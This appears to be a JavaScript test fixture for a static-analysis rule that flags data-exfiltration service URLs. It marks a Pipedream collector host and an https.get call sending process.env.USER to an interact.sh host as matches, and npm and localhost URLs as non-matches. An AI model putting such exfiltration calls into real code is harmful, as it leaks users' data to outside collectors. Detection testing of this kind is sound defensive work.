/*
 * Fixture for generic-exfil-service-url.
 * RULEID: a pipedream collector and an interact.sh host in an https request.
 * OK: the npm registry and a localhost URL.
 */
const https = require("https");
// ruleid: generic-exfil-service-url
const host = "eo1abc2def3ghi.m.pipedream.net";
// ruleid: generic-exfil-service-url
https.get("https://c9x.interact.sh/" + process.env.USER);
// ok: generic-exfil-service-url
https.get("https://registry.npmjs.org/express");
// ok: generic-exfil-service-url
const local = "http://localhost:3000/hook";
